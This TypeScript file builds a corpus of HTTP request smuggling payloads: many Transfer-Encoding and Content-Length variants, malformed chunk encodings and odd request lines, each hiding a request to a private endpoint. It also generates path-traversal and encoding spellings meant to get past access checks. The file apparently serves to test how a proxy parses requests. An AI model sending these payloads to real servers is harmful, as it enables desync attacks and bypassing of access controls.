/** Bytes of one request that two programs may read differently: behind each hides a request that no proxy lets pass. */
export interface Payload {
  readonly name: string;
  readonly bytes: string;
}

/** The hidden request, which no server may answer. */
const hidden = "GET /api/private HTTP/1.1\r\nHost: x\r\n\r\n";
const size = hidden.length;

/** A body that ends at once for who reads chunks, and holds the hidden request for who reads the length. */
const endsAtOnce = `0\r\n\r\n${hidden}`;
/** A body whose one chunk is the hidden request. */
const inChunk = `${size.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;

const type = "Content-Type: application/json";

function post(lines: readonly string[], body: string, first = "POST /api/open HTTP/1.1"): string {
  return `${[first, "Host: x", type, ...lines].join("\r\n")}\r\n\r\n${body}`;
}

/** Ways to write `Transfer-Encoding: chunked` that not everybody reads so. */
const codings: readonly string[] = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: chunked\t",
  "transfer-encoding: CHUNKED",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: x, chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: chunked;a=b",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: identity",
  "Transfer-Encoding:",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: \r\n chunked",
  "Transfer-Encoding\r\n: chunked",
  " Transfer-Encoding: chunked",
  "X: x\nTransfer-Encoding: chunked",
  "X: x\rTransfer-Encoding: chunked",
  "X: x\0\r\nTransfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding: chun\0ked",
  "\xadTransfer-Encoding: chunked",
  "Connection: Content-Length\r\nTransfer-Encoding: chunked",
];

/** Lengths that are none, or two. */
const lengths: readonly string[] = [
  `Content-Length: 0\r\nContent-Length: ${size}`,
  `Content-Length: ${size}\r\nContent-Length: 0`,
  `Content-Length: ${size}\r\nContent-Length: ${size}`,
  `Content-Length: 0, ${size}`,
  `Content-Length: ${size}, ${size}`,
  ...[
    `+${size}`,
    `-${size}`,
    `0x${size.toString(16)}`,
    `${size} 0`,
    `${size}abc`,
    `${size}.0`,
    "",
  ].map((text) => `Content-Length: ${text}`),
  `Content-Length : ${size}`,
  ` Content-Length: ${size}`,
  `Content-Length:\n ${size}`,
  `Content-Length: ${size}\0`,
  `Content_Length: ${size}\r\nContent-Length: 0`,
  `Content-Length: 99999999999999999999999${size}`,
  `Content-Length: 000000000000000000000${size}`,
  `Connection: Content-Length\r\nContent-Length: ${size}`,
  `Connection: close, X-Forwarded-For, Host\r\nContent-Length: ${size}`,
];

/** Chunks that are cut in another way. */
const chunks: Readonly<Record<string, string>> = {
  "an extension": `${size.toString(16)};a=b\r\n${hidden}\r\n0\r\n\r\n`,
  "an extension in quotes": `${size.toString(16)};a="\r\n"\r\n${hidden}\r\n0\r\n\r\n`,
  "an extension with a bare line feed": `2;\nxx\r\n${size.toString(16)}\r\n0\r\n\r\n${hidden}`,
  "a long extension": `${size.toString(16)};${"a".repeat(20_000)}\r\n${hidden}\r\n0\r\n\r\n`,
  "a size with a sign": `+${size.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
  "a size with 0x": `0x${size.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
  "a size below zero": `-1\r\n${endsAtOnce}`,
  "a size that overflows": `10000000000000000\r\n${endsAtOnce}`,
  "a size with a space": `${size.toString(16)} \r\n${hidden}\r\n0\r\n\r\n`,
  "a size with a bare line feed": `${size.toString(16)}\n${hidden}\r\n0\r\n\r\n`,
  "a size with a bare carriage return": `0\r${endsAtOnce}`,
  "a chunk that ends with other bytes": `2\r\n{}xx${inChunk}`,
  "a chunk that ends with a bare line feed": `2\r\n{}\n${inChunk}`,
  "a chunk that ends without a line": `2\r\n{}${inChunk}`,
  "no size": `\r\n${inChunk}`,
  trailers: `0\r\nContent-Length: ${size}\r\nHost: y\r\nTransfer-Encoding: chunked\r\n\r\n`,
  "an end of two bare line feeds": `0\n\n${hidden}`,
  "an end that is cut": `0\r\n${hidden}`,
};

const firstLines: readonly string[] = [
  "GET /api/open HTTP/1.1",
  "HEAD /api/open HTTP/1.1",
  "DELETE /api/open HTTP/1.1",
  "OPTIONS /api/open HTTP/1.1",
  "POST /api/none HTTP/1.1",
  "POST /api/open HTTP/1.0",
  "POST /api/open HTTP/1.2",
  "POST /api/open HTTP/2.0",
  "POST /api/open http/1.1",
  "POST  /api/open  HTTP/1.1",
  "POST\t/api/open\tHTTP/1.1",
  "POST /api/open HTTP/1.1 ",
  "POST /api/open?a b HTTP/1.1",
  "POST /api/open\0 HTTP/1.1",
  "\r\n\r\nPOST /api/open HTTP/1.1",
  "\nPOST /api/open HTTP/1.1",
  "POST http://y/api/open HTTP/1.1",
  "POST http://y:99999/api/open HTTP/1.1",
  "POST HTTP://y@z/api/open HTTP/1.1",
];

const heads: Readonly<Record<string, string>> = {
  "an expectation": `Expect: 100-continue\r\nContent-Length: ${size}`,
  "an upgrade to h2c": `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: ${size}`,
  "an upgrade to websocket": `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\nContent-Length: ${size}`,
  "two hosts": `Host: y\r\nContent-Length: ${size}`,
  "a folded line": `X: a\r\n b\r\nContent-Length: ${size}`,
  "a line without a colon": `X\r\nContent-Length: ${size}`,
  "an empty name": `: a\r\nContent-Length: ${size}`,
  "a name with a space": `X Y: a\r\nContent-Length: ${size}`,
  "a bare carriage return": `X: a\rContent-Length: 0\r\nContent-Length: ${size}`,
  "two hundred lines": `${Array.from({ length: 200 }, (_, at) => `X${at}: a`).join("\r\n")}\r\nContent-Length: ${size}`,
};

export const payloads: readonly Payload[] = [
  ...codings.flatMap((coding) => [
    {
      name: `a length that goes on behind the last chunk, ${JSON.stringify(coding)}`,
      bytes: post([`Content-Length: ${endsAtOnce.length}`, coding], endsAtOnce),
    },
    {
      name: `a length that ends in the first chunk, ${JSON.stringify(coding)}`,
      bytes: post(["Content-Length: 4", coding], inChunk),
    },
    { name: `chunks alone, ${JSON.stringify(coding)}`, bytes: post([coding], inChunk) },
  ]),
  ...lengths.map((length) => ({ name: JSON.stringify(length), bytes: post([length], hidden) })),
  ...Object.entries(chunks).map(([name, body]) => ({
    name: `chunks with ${name}`,
    bytes: post(["Transfer-Encoding: chunked"], body),
  })),
  ...firstLines.flatMap((first) => [
    {
      name: `${JSON.stringify(first)} with a length`,
      bytes: post([`Content-Length: ${size}`], hidden, first),
    },
    {
      name: `${JSON.stringify(first)} with chunks`,
      bytes: post(["Transfer-Encoding: chunked"], inChunk, first),
    },
  ]),
  ...Object.entries(heads).map(([name, lines]) => ({ name, bytes: post([lines], hidden) })),
  {
    name: "bare line feeds in a head",
    bytes: post([`Content-Length: ${size}`], hidden).replaceAll("\r\n", "\n"),
  },
];

/** Spellings of a path that some program may take for it. */
export function spellings(path: string): readonly string[] {
  const [, first = "", second = "", ...rest] = path.split("/");
  const name = [second, ...rest].join("/");
  const hex = (text: string) => `%${text.charCodeAt(0).toString(16)}`;
  const encoded = [hex(name), hex(name).toUpperCase(), hex(name).replace("%", "%25")].map(
    (letter) => `/${first}/${letter}${name.slice(1)}`,
  );
  return [
    ...encoded,
    `//${first}/${name}`,
    `/${first}//${name}`,
    `/${first}/./${name}`,
    `/./${first}/${name}`,
    `/${first}/open/../${name}`,
    `/${first}/open/%2e%2e/${name}`,
    `/${first}/open/%2E%2e/${name}`,
    `/${first}/open%2f..%2f${name}`,
    `/${first}/open/..%2f${name}`,
    `/${first}/open/..;/${name}`,
    `/${first};/${name}`,
    `/${first};a=b/${name}`,
    `/${first}/;/${name}`,
    `/${first}%2f${name}`,
    `/${first}%2F${name}`,
    `%2f${first}/${name}`,
    `/${first}\\${name}`,
    `\\${first}\\${name}`,
    `/${first}/open\\..\\${name}`,
    `/${first}/%5c${name}`,
    `/${first}%5c${name}`,
    `/${first}%00/${name}`,
    `/${first}/%00${name}`,
    `/${first}/${name}%00`,
    `/${first}/${name}%20`,
    `/${first}/${name}%09`,
    `/${first}/%09${name}`,
    `/${first}/%0a${name}`,
    `/${first}/%c0%ae%c0%ae/${first}/${name}`,
    `/${first}%c0%af${name}`,
    `/${first}%e0%80%af${name}`,
    `/${first}/${name.replace(/i/, "%c4%b1")}`,
    `/${first}/${name.toUpperCase()}`,
    `/${first.toUpperCase()}/${name}`,
    `/${first}/${name[0]?.toUpperCase()}${name.slice(1)}`,
    `/${first}/${name}.`,
    `/${first}/${name};a=b`,
    `/${first}/open?/../${name}`,
    `/${first}/open#/../${name}`,
    `/?/${first}/${name}`,
    `/${first}/open/../../${first}/${name}`,
    `/../${first}/${name}`,
    `/%2e/${first}/${name}`,
    `/${first}/.%2f${name}`,
    `/${first}/%u0070${name.slice(1)}`,
    `/${first}/\x80${name}`,
    `*/${first}/${name}`,
    `${first}/${name}`,
    `http://x//${first}/${name}`,
    `http://x/${first}//${name}`,
    `http://x/./${first}/${name}`,
    `http://x/${first}/${name.toUpperCase()}`,
    `http://x\\${first}/${name}`,
    `http:/${first}/${name}`,
    `http:///${first}/${name}`,
    `http://x?/${first}/${name}`,
    `http://x#/${first}/${name}`,
    `HTTPS://x/${first}/./${name}`,
    `ws://x/${first}/${name}`,
    `x:/${first}/${name}`,
    `//x/${first}/${name}`,
  ].filter((spelling) => spelling !== path);
}

/** The path as it is, in the forms that name it beyond doubt: a proxy has to read these. */
export function plainForms(path: string): readonly string[] {
  return [path, `${path}?a=b`, `http://x${path}`, `HTTP://y:80${path}`, `https://x${path}?a`];
}
